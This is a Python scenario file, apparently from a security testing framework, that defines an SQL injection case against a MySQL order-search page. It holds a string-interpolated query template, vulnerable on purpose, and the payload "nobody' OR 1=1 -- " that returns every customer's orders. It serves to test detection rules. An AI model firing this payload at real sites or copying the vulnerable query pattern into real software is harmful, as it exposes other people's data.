"""F1: an injected OR makes a condition true for every row."""

from backwatch.attack.clients.mysql_connector import MySQLConnector
from backwatch.attack.protocols.tables import MySQLOfTables
from backwatch.attack.scenarios import Run
from backwatch.attack.techniques.sql import SearchPage


class AlwaysTrue(SearchPage):
    """A page writes what its visitor searches for into the statement."""

    code = "F1"
    attack = "reads everybody's orders through a condition that is always true"
    reference = "https://owasp.org/www-community/attacks/SQL_Injection"
    rule = "query-attack"
    server = MySQLOfTables
    search = "SELECT id, customer, total FROM orders WHERE customer = '{}' ORDER BY id"
    typed = "nobody' OR 1=1 -- "
    runs = (Run(MySQLConnector),)

    @classmethod
    def succeeded(cls, service: object, got: object) -> bool:
        """Return whether every row came back."""
        del service
        return isinstance(got, list) and len(got) > 20
